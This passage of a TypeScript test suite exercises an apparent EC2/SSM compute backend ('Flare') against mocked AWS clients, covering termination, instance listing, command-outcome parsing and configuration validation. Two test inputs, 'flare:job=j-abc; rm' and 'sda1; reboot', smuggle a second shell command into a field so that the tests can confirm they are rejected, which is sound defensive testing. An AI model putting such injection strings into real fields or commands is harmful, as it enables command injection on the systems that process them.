    ec2Mock.on(TerminateInstancesCommand).resolves({});

    await new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-1', 'i-2'] }));

    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, DESCRIBE_JOB_INSTANCES);
    const calls = ec2Mock.commandCalls(TerminateInstancesCommand);
    assert.equal(calls.length, 1);
    assert.deepEqual(calls[0].args[0].input, { InstanceIds: ['i-1', 'i-2', 'i-3'] });
  });

  test('terminates an instance the job record never saw (crash after RunInstances)', async () => {
    ec2Mock.on(DescribeInstancesCommand).resolves(reservation('i-9'));
    ec2Mock.on(TerminateInstancesCommand).resolves({});

    await new Ec2SsmCompute(PROPS).stop(job());

    assert.deepEqual(ec2Mock.commandCalls(TerminateInstancesCommand)[0].args[0].input, { InstanceIds: ['i-9'] });
  });

  test('does nothing for a job with no instances', async () => {
    await new Ec2SsmCompute(PROPS).stop(job());
    assert.equal(ec2Mock.commandCalls(TerminateInstancesCommand).length, 0);
  });

  test('is idempotent: terminating an instance EC2 no longer knows succeeds', async () => {
    ec2Mock.on(TerminateInstancesCommand).rejects(awsError(EC2ServiceException, 'InvalidInstanceID.NotFound'));
    await new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-1'] }));
    await new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-1'] }));
    assert.equal(ec2Mock.commandCalls(TerminateInstancesCommand).length, 2);
  });

  test('when one of several ids is unknown, still terminates the others one by one', async () => {
    ec2Mock
      .on(TerminateInstancesCommand)
      .rejectsOnce(awsError(EC2ServiceException, 'InvalidInstanceID.NotFound'))
      .rejectsOnce(awsError(EC2ServiceException, 'InvalidInstanceID.NotFound'))
      .resolves({});

    await new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-gone', 'i-2'] }));

    const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      { InstanceIds: ['i-gone', 'i-2'] },
      { InstanceIds: ['i-gone'] },
      { InstanceIds: ['i-2'] },
    ]);
  });

  test('throws any other error so the workflow retries', async () => {
    const denied = awsError(EC2ServiceException, 'UnauthorizedOperation');
    ec2Mock.on(TerminateInstancesCommand).rejects(denied);
    await assert.rejects(
      new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-1'] })),
      (error: unknown) => error === denied,
    );
  });
});

describe('Ec2SsmCompute.terminate', () => {
  test('terminates in batches of 100, without duplicates', async () => {
    ec2Mock.on(TerminateInstancesCommand).resolves({});
    const ids = Array.from({ length: 205 }, (_, i) => `i-${String(i).padStart(8, '0')}`);

    await new Ec2SsmCompute(PROPS).terminate([...ids, ids[0]]);

    const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      { InstanceIds: ids.slice(0, 100) },
      { InstanceIds: ids.slice(100, 200) },
      { InstanceIds: ids.slice(200) },
    ]);
  });

  test('ignores ids EC2 no longer knows, one batch at a time, and sends nothing for none', async () => {
    ec2Mock
      .on(TerminateInstancesCommand)
      .rejectsOnce(awsError(EC2ServiceException, 'InvalidInstanceID.NotFound'))
      .rejectsOnce(awsError(EC2ServiceException, 'InvalidInstanceID.NotFound'))
      .resolves({});

    await new Ec2SsmCompute(PROPS).terminate([]);
    await new Ec2SsmCompute(PROPS).terminate(['i-gone', 'i-2']);

    const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
    assert.deepEqual(inputs, [
      { InstanceIds: ['i-gone', 'i-2'] },
      { InstanceIds: ['i-gone'] },
      { InstanceIds: ['i-2'] },
    ]);
  });

  test('throws any other error', async () => {
    const denied = awsError(EC2ServiceException, 'UnauthorizedOperation');
    ec2Mock.on(TerminateInstancesCommand).rejects(denied);
    await assert.rejects(new Ec2SsmCompute(PROPS).terminate(['i-1']), (error: unknown) => error === denied);
  });
});

describe('Ec2SsmCompute.listManaged', () => {
  test('lists every live instance marked managed-by=flare across pages, with its job and launch time', async () => {
    ec2Mock
      .on(DescribeInstancesCommand)
      .resolvesOnce({
        Reservations: [
          {
            Instances: [
              {
                InstanceId: 'i-1',
                State: { Name: 'running' },
                LaunchTime: new Date('2030-01-01T00:00:00.000Z'),
                Tags: [
                  { Key: 'managed-by', Value: 'flare' },
                  { Key: 'flare:job', Value: 'j-abc' },
                ],
              },
              { InstanceId: 'i-2', State: { Name: 'pending' }, Tags: [{ Key: 'managed-by', Value: 'flare' }] },
            ],
          },
        ],
        NextToken: 'page-2',
      })
      .resolvesOnce({
        Reservations: [
          {
            Instances: [
              {
                InstanceId: 'i-3',
                State: { Name: 'stopped' },
                LaunchTime: new Date('2030-01-02T00:00:00.000Z'),
                Tags: [{ Key: 'flare:job', Value: 'j-def' }],
              },
            ],
          },
        ],
      });

    const managed = await new Ec2SsmCompute(PROPS).listManaged();

    assert.deepEqual(managed, [
      { instanceId: 'i-1', jobId: 'j-abc', state: 'running', launchedAt: '2030-01-01T00:00:00.000Z' },
      { instanceId: 'i-2', state: 'pending' },
      { instanceId: 'i-3', jobId: 'j-def', state: 'stopped', launchedAt: '2030-01-02T00:00:00.000Z' },
    ]);
    const filters = [
      { Name: 'tag:managed-by', Values: ['flare'] },
      { Name: 'instance-state-name', Values: ['pending', 'running', 'stopping', 'stopped'] },
    ];
    assert.deepEqual(
      ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input),
      [
        { Filters: filters, NextToken: undefined },
        { Filters: filters, NextToken: 'page-2' },
      ],
    );
  });

  test('is empty when Flare runs nothing', async () => {
    assert.deepEqual(await new Ec2SsmCompute(PROPS).listManaged(), []);
  });

  test("with a deployment name, lists only that deployment's instances (two stacks in one account never reap each other's)", async () => {
    await new Ec2SsmCompute({ ...PROPS, deployment: 'FlareStaging' }).listManaged();
    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, {
      Filters: [
        { Name: 'tag:managed-by', Values: ['flare'] },
        { Name: 'tag:flare:deployment', Values: ['FlareStaging'] },
        { Name: 'instance-state-name', Values: ['pending', 'running', 'stopping', 'stopped'] },
      ],
      NextToken: undefined,
    });
  });

  test('with a deployment name, launches carry it as a tag', async () => {
    ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: 'i-1' }] });
    await new Ec2SsmCompute({ ...PROPS, deployment: 'FlareStaging' }).launch(job());
    const tags = [
      BASE_TAGS[0],
      BASE_TAGS[1],
      { Key: 'flare:deployment', Value: 'FlareStaging' },
      ...BASE_TAGS.slice(2),
      ...TAGS.slice(BASE_TAGS.length),
    ];
    assert.deepEqual(ec2Mock.commandCalls(RunInstancesCommand)[0].args[0].input.TagSpecifications, [
      { ResourceType: 'instance', Tags: tags },
      { ResourceType: 'volume', Tags: tags },
    ]);
  });
});

describe('Ec2SsmCompute event lookups', () => {
  function invocationMissing(): SSMServiceException {
    return awsError(SSMServiceException, 'InvocationDoesNotExist', { message: 'mocked' });
  }

  test('commandOutcome reads Flare command invocations back to their job and exit code', async () => {
    ssmMock.on(GetCommandInvocationCommand).resolves({
      CommandId: 'c-1',
      InstanceId: 'i-1',
      Comment: 'flare:job=j-abc',
      Status: 'Failed',
      StatusDetails: 'Failed',
      ResponseCode: 42,
    });

    const outcome = await new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1');

    assert.deepEqual(outcome, { jobId: 'j-abc', status: 'Failed', statusDetails: 'Failed', exitCode: 42 });
    assert.deepEqual(ssmMock.commandCalls(GetCommandInvocationCommand)[0].args[0].input, {
      CommandId: 'c-1',
      InstanceId: 'i-1',
    });
  });

  test('commandOutcome has no exit code when the script never ran (-1), and exit 0 on success', async () => {
    ssmMock
      .on(GetCommandInvocationCommand)
      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Failed', StatusDetails: 'Undeliverable', ResponseCode: -1 })
      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Success', StatusDetails: 'Success', ResponseCode: 0 });
    const compute = new Ec2SsmCompute(PROPS);

    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), {
      jobId: 'j-abc',
      status: 'Failed',
      statusDetails: 'Undeliverable',
    });
    assert.deepEqual(await compute.commandOutcome('c-2', 'i-1'), {
      jobId: 'j-abc',
      status: 'Success',
      statusDetails: 'Success',
      exitCode: 0,
    });
  });

  test("commandOutcome says when the script (so the container) ended, from the invocation's ExecutionEndDateTime; none when SSM gives none", async () => {
    ssmMock
      .on(GetCommandInvocationCommand)
      .resolvesOnce({
        Comment: 'flare:job=j-abc',
        Status: 'Failed',
        ResponseCode: 143,
        ExecutionEndDateTime: '2030-01-01T01:01:00.180Z',
      })
      .resolvesOnce({ Comment: 'flare:job=j-abc', Status: 'Failed', ResponseCode: 143, ExecutionEndDateTime: '' })
      .resolvesOnce({
        Comment: 'flare:job=j-abc',
        Status: 'Failed',
        ResponseCode: 143,
        ExecutionEndDateTime: 'not a time',
      });
    const compute = new Ec2SsmCompute(PROPS);

    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), {
      jobId: 'j-abc',
      status: 'Failed',
      exitCode: 143,
      endedAt: '2030-01-01T01:01:00.180Z',
    });
    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', exitCode: 143 });
    assert.deepEqual(await compute.commandOutcome('c-1', 'i-1'), { jobId: 'j-abc', status: 'Failed', exitCode: 143 });
  });

  for (const Comment of [
    undefined,
    '',
    'patching run',
    'flare:job=',
    'flare:job=J-ABC',
    'flare:job=j-abc; rm',
    'xflare:job=j-abc',
  ]) {
    test(`commandOutcome ignores a command that is not Flare's (comment ${JSON.stringify(Comment)})`, async () => {
      ssmMock.on(GetCommandInvocationCommand).resolves({ Comment, Status: 'Success', ResponseCode: 0 });
      assert.equal(await new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1'), undefined);
    });
  }

  test('commandOutcome throws what SSM throws, so the event is retried', async () => {
    const missing = invocationMissing();
    ssmMock.on(GetCommandInvocationCommand).rejects(missing);
    await assert.rejects(new Ec2SsmCompute(PROPS).commandOutcome('c-1', 'i-1'), (error: unknown) => error === missing);
  });

  test('jobOfInstance names the job of a Flare instance', async () => {
    ec2Mock.on(DescribeInstancesCommand).resolves({
      Reservations: [
        {
          Instances: [
            {
              InstanceId: 'i-1',
              State: { Name: 'terminated' },
              Tags: [
                { Key: 'managed-by', Value: 'flare' },
                { Key: 'flare:job', Value: 'j-abc' },
              ],
            },
          ],
        },
      ],
    });

    assert.equal(await new Ec2SsmCompute(PROPS).jobOfInstance('i-1'), 'j-abc');
    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand)[0].args[0].input, {
      InstanceIds: ['i-1'],
      NextToken: undefined,
    });
  });

  test('jobOfInstance is undefined for instances Flare did not launch or EC2 no longer knows', async () => {
    const compute = new Ec2SsmCompute(PROPS);
    ec2Mock
      .on(DescribeInstancesCommand)
      .resolvesOnce({
        Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'flare:job', Value: 'j-abc' }] }] }],
      })
      .resolvesOnce({
        Reservations: [{ Instances: [{ InstanceId: 'i-1', Tags: [{ Key: 'managed-by', Value: 'flare' }] }] }],
      })
      .resolvesOnce({
        Reservations: [
          {
            Instances: [
              {
                InstanceId: 'i-1',
                Tags: [
                  { Key: 'managed-by', Value: 'someone-else' },
                  { Key: 'flare:job', Value: 'j-abc' },
                ],
              },
            ],
          },
        ],
      })
      .rejectsOnce(awsError(EC2ServiceException, 'InvalidInstanceID.NotFound'));

    for (let i = 0; i < 4; i++) assert.equal(await compute.jobOfInstance('i-1'), undefined);
    assert.equal(ec2Mock.commandCalls(DescribeInstancesCommand).length, 4);
  });

  test('jobOfInstance throws other errors', async () => {
    const denied = awsError(EC2ServiceException, 'UnauthorizedOperation');
    ec2Mock.on(DescribeInstancesCommand).rejects(denied);
    await assert.rejects(new Ec2SsmCompute(PROPS).jobOfInstance('i-1'), (error: unknown) => error === denied);
  });
});

describe('Ec2SsmCompute configuration', () => {
  test('fails fast naming a pool without a container memory limit', () => {
    assert.throws(
      () => new Ec2SsmCompute({ ...PROPS, pools: { t4: { instanceTypes: ['g4dn.xlarge'] } } }),
      (error: unknown) => error instanceof ValidationError && error.details.some((d) => d.field === 'pools.t4.memory'),
    );
    assert.doesNotThrow(
      () =>
        new Ec2SsmCompute({
          ...PROPS,
          pools: { t4: { instanceTypes: ['g4dn.xlarge'] } },
          dockerOptions: { memory: '14g' },
        }),
    );
  });

  test('fails fast without subnets or instance types', () => {
    assert.throws(() => new Ec2SsmCompute({ ...PROPS, subnetIds: [] }), ValidationError);
    assert.throws(
      () => new Ec2SsmCompute({ ...PROPS, pools: { a10g: { instanceTypes: [], memory: '14g' } } }),
      ValidationError,
    );
  });

  test('fails fast on a bad agent timeout, root device or rendezvous port', () => {
    const fieldOf = (props: Partial<Ec2SsmComputeProps>) => {
      try {
        new Ec2SsmCompute({ ...PROPS, ...props });
      } catch (error) {
        return error instanceof ValidationError ? error.details.map((d) => d.field) : [];
      }
      return [];
    };
    assert.deepEqual(fieldOf({ agentTimeoutSeconds: 0 }), ['agentTimeoutSeconds']);
    assert.deepEqual(fieldOf({ rootDeviceName: 'sda1; reboot' }), ['rootDeviceName']);
    assert.deepEqual(fieldOf({ masterPort: 70000 }), ['masterPort']);
    assert.deepEqual(fieldOf({ agentTimeoutSeconds: 1, rootDeviceName: '/dev/xvda', masterPort: 1 }), []);
  });
});
